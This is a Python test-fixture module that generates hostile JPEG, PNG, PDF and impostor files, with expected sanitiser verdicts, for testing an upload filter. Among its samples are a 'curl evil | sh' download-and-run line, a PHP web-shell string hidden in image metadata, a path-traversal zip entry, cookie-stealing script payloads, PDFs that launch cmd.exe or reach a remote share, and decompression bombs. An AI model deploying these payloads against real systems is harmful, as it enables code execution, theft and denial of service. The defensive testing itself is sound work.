"""Files that somebody might send to do harm, each made here from nothing, with what must become of it.

An expectation is a set of faults of which one is told, or CLEAN: it may be taken, and nothing marked survives in what is kept.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any, NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

JPEG, PNG, PDF = "image/jpeg", "image/png", "application/pdf"
CLEAN = frozenset({"clean"})
MARK = "CANARY-7731"
BROKEN = frozenset({"unreadable"})
WRONG = frozenset({"wrong_kind"})
ACTIVE = frozenset({"active"})
FLOOD = frozenset({"too_many_pixels"})
HEAVY = frozenset({"too_heavy", "unreadable", "killed"})


class Hostile(NamedTuple):
    """One file: its name in the corpus, what it claims to be, its bytes, what may be told of it."""

    name: str
    media_type: str
    data: bytes
    expected: frozenset[str]


@functools.cache
def corpus() -> list[Hostile]:
    """All of them."""
    return [Hostile(*each) for each in (*_foreign(), *_jpegs(), *_pngs(), *_pdfs(), *_active_pdfs())]


def picture(width: int = 64, height: int = 48, form: str = "JPEG", **options: object) -> bytes:
    """A picture in which every pixel differs from its neighbour."""
    image = Image.frombytes("RGB", (width, height), bytes((7 * n) % 251 for n in range(3 * width * height)))
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def paper(pages: int = 1) -> pikepdf.Pdf:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
        made.pages[-1].Contents = made.make_stream(b"BT /F1 12 Tf 72 700 Td (Pay stub) Tj ET")
    return made


def packed(made: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    made.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr("../../evil.sh", MARK * 20)
    return out.getvalue()


Case = tuple[str, str, bytes, frozenset[str]]

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
STRANGERS = {
    "svg": SVG,
    "html": HTML,
    "gif": b"GIF89a" + bytes(40),
    "bmp": b"BM" + bytes(60),
    "tiff": b"II*\0" + bytes(60),
    "webp": b"RIFF\x24\0\0\0WEBPVP8 " + bytes(40),
    "zip": archive(),
    "program": b"MZ" + bytes(100),
    "elf": b"\x7fELF" + bytes(100),
    "script": b"#!/bin/sh\ncurl evil | sh\n",
    "xml with entities": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "' + b"b" * 999 + b'">]><a>&b;&b;</a>',
    "one byte": b"\xff",
    "text before the magic": b" ",
}


def _foreign() -> Iterator[Case]:
    """What is something else than it claims."""
    good = {JPEG: picture(), PNG: picture(form="PNG"), PDF: packed(paper())}
    for media_type, own in good.items():
        for name, data in STRANGERS.items():
            yield f"{name} as {media_type}", media_type, data + own if name.startswith("text") else data, WRONG
        for other, data in good.items():
            if other != media_type:
                yield f"{other} as {media_type}", media_type, data, WRONG
        yield f"{media_type}: a magic number and nothing else", media_type, own[:8], BROKEN
        for part in (10, 50, 90):
            yield f"{media_type}: cut at {part} %", media_type, own[: len(own) * part // 100], BROKEN
    for brand in (b"heic", b"heix", b"mif1", b"avif"):
        yield f"HEIC of brand {brand.decode()}", JPEG, b"\0\0\0\x18ftyp" + brand + bytes(64), frozenset({"heic"})


def _segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def _sized(data: bytes, width: int, height: int) -> bytes:
    """The same JPEG, whose frame says another size."""
    at = data.index(b"\xff\xc0")
    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]


def _jpegs() -> Iterator[Case]:
    good, mark = picture(), MARK.encode()
    exif = Image.Exif()
    exif[0x010E] = MARK
    exif[0x8825] = {1: "N", 2: (40.0, 26.0, 46.0), 29: MARK}
    tagged = {
        "GPS and a description": picture(exif=exif.tobytes()),
        "a comment": good[:2] + _segment(0xFE, mark) + good[2:],
        "a PHP comment": good[:2] + _segment(0xFE, b"<?php system($_GET[0]); /*" + mark) + good[2:],
        "XMP": good[:2] + _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x>" + mark + b"</x>") + good[2:],
        "an IPTC block": good[:2] + _segment(0xED, b"Photoshop 3.0\x008BIM" + mark) + good[2:],
        "a colour profile": picture(icc_profile=bytes(128) + mark),
        "an archive behind it": good + archive(),
        "a page behind it": good + HTML + mark,
        "a script in its first segment": good[:2] + _segment(0xE0, b"/*" + mark + b"*/=alert(1)/*") + good[2:],
    }
    for name, data in tagged.items():
        yield f"a JPEG with {name}", JPEG, data, CLEAN
    for width, height in ((65000, 65000), (6400, 6401), (65535, 1000)):
        yield f"a JPEG that says {width} x {height}", JPEG, _sized(good, width, height), FLOOD
    yield "a JPEG of no width", JPEG, _sized(good, 0, 10), BROKEN
    yield "a JPEG of noise", JPEG, b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40, BROKEN
    second = Image.new("RGB", (64, 48), "red")
    out = io.BytesIO()
    Image.open(io.BytesIO(good)).save(out, "MPO", save_all=True, append_images=[second], exif=exif.tobytes())
    yield "two pictures in one JPEG", JPEG, out.getvalue(), CLEAN


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(width: int, height: int, data: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _pngs() -> Iterator[Case]:
    good, mark = picture(form="PNG"), MARK.encode()
    body = 33  # where the first chunk after the header begins
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", MARK)
    told.add_itxt("XML:com.adobe.xmp", f"<x>{MARK}</x>")
    tagged = {
        "text": picture(form="PNG", pnginfo=told),
        "EXIF": good[:body] + _chunk(b"eXIf", b"MM\0*\0\0\0\x08\0\0" + mark) + good[body:],
        "a chunk of its own": good[:body] + _chunk(b"evIl", mark * 50) + good[body:],
        "an archive behind it": good + archive(),
        "a page behind it": good + HTML + mark,
    }
    for name, data in tagged.items():
        yield f"a PNG with {name}", PNG, data, CLEAN
    for width, height in ((50_000, 50_000), (2**31 - 1, 2**31 - 1), (40_000_001, 1)):
        yield f"a PNG that says {width} x {height}", PNG, _png(width, height, zlib.compress(bytes(1000))), FLOOD
    bomb = zlib.compress(bytes(48 << 20), 9)
    yield "a PNG whose text unpacks to 48 MB", PNG, good[:body] + _chunk(b"zTXt", b"a\0\0" + bomb) + good[body:], HEAVY | CLEAN
    yield "a PNG whose profile unpacks to 48 MB", PNG, good[:body] + _chunk(b"iCCP", b"a\0\0" + bomb) + good[body:], HEAVY | CLEAN
    yield "a PNG whose pixels unpack to far more than its size", PNG, _png(8, 8, bomb), HEAVY | CLEAN
    yield "a PNG with too few pixels", PNG, _png(800, 800, zlib.compress(bytes(100))), BROKEN
    yield "a PNG of no width", PNG, _png(0, 8, zlib.compress(b"")), BROKEN
    yield "a PNG with a wrong checksum", PNG, good[:20] + bytes((good[20] ^ 1,)) + good[21:], BROKEN
    frames = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(frames, "PNG", save_all=True, append_images=[Image.new("RGB", (8, 8), "blue")])
    yield "a PNG that moves", PNG, frames.getvalue(), CLEAN


def _pdfs() -> Iterator[Case]:
    good = packed(paper())
    told = paper()
    told.docinfo["/Author"] = MARK
    with told.open_metadata() as meta:
        meta["dc:creator"] = [MARK]
    linked = paper()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.URI, URI=String(f"http://{MARK}.example")))
    linked.pages[0].Annots = Array([link])
    yield "a PDF that tells of its author", PDF, packed(told), CLEAN
    yield "a PDF that links to a page", PDF, packed(linked), CLEAN
    yield "a PDF with an archive behind it", PDF, good + archive(), CLEAN | BROKEN
    yield "a PDF with a page behind it", PDF, good + HTML + MARK.encode(), CLEAN | BROKEN
    for name, secret in (("a password", "secret"), ("an empty password", "")):
        lock = pikepdf.Encryption(user=secret, owner="owner", R=6)
        yield f"a PDF locked with {name}", PDF, packed(paper(), encryption=lock), frozenset({"locked"})
    yield "a PDF of 201 pages", PDF, packed(paper(201)), frozenset({"too_many_pages"})
    yield "a PDF without pages", PDF, packed(pikepdf.new()), BROKEN
    bomb = paper()
    bomb.pages[0].Contents = pikepdf.Stream(bomb, zlib.compress(zlib.compress(bytes(1 << 28), 9), 9))
    bomb.pages[0].Contents.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    yield "a PDF whose page unpacks to 256 MB", PDF, packed(bomb, compress_streams=False), HEAVY
    deep = b"[" * 5000 + b"]" * 5000
    yield "a PDF of 5000 lists in lists", PDF, good.replace(b"/Type /Pages", b"/Deep " + deep + b" /Type /Pages"), HEAVY | ACTIVE
    many = paper()
    many.Root.Many = Array([many.make_indirect(Dictionary(A=1)) for _ in range(200_100)])
    yield "a PDF of 200,000 objects", PDF, packed(many), HEAVY
    loop = paper()
    loop.Root.Pages.Kids.append(loop.Root.Pages)
    yield "a PDF whose pages contain themselves", PDF, packed(loop), BROKEN
    yield "a PDF whose index points nowhere", PDF, good.replace(b"startxref\n", b"startxref\n9"), BROKEN


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _active_pdfs() -> Iterator[Case]:
    """PDFs that do something by themselves."""
    roots: dict[str, dict[str, Any]] = {
        "runs a script when opened": {"OpenAction": _script()},
        "has named scripts": {"Names": Dictionary(JavaScript=Dictionary(Names=[String("a"), _script()]))},
        "carries a file": {"Names": Dictionary(EmbeddedFiles=Dictionary(Names=[String("a"), Dictionary(Type=Name.Filespec)]))},
        "acts when closed": {"AA": Dictionary(WC=_script())},
        "is a form of its own language": {"AcroForm": Dictionary(XFA=String("<xdp/>"))},
        "starts a program": {"OpenAction": Dictionary(S=Name.Launch, F=String("cmd.exe"))},
        "sends a form": {"OpenAction": Dictionary(S=Name.SubmitForm, F=String("http://x.example"))},
        "imports data": {"OpenAction": Dictionary(S=Name.ImportData, F=String("a"))},
        "opens another file": {"OpenAction": Dictionary(S=Name.GoToR, F=String("\\\\evil\\share"))},
        "opens a file within": {"OpenAction": Dictionary(S=Name.GoToE)},
        "plays a film": {"OpenAction": Dictionary(S=Name.Rendition)},
        "plays a sound": {"OpenAction": Dictionary(S=Name.Sound)},
        "hides a script three lists deep": {"Odd": Array([Array([Array([_script()])])])},
        "chains to a script": {"OpenAction": Dictionary(S=Name.GoTo, D=[0], Next=Array([_script()]))},
    }
    for name, entries in roots.items():
        made = paper()
        for key, value in entries.items():
            made.Root[f"/{key}"] = value
        yield f"a PDF that {name}", PDF, packed(made), ACTIVE
        if name == "runs a script when opened":
            squeezed = packed(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
            yield "a PDF that hides its script in a packed stream", PDF, squeezed, ACTIVE
            plain = packed(made, object_stream_mode=pikepdf.ObjectStreamMode.disable)
            yield "a PDF that spells its script oddly", PDF, plain.replace(b"/JavaScript", b"/JavaScrip#74"), ACTIVE | BROKEN
    for kind in ("RichMedia", "Screen", "Movie", "3D", "FileAttachment"):
        made = paper()
        made.pages[0].Annots = Array([made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 9, 9]))])
        yield f"a PDF with a note of the kind {kind}", PDF, packed(made), ACTIVE
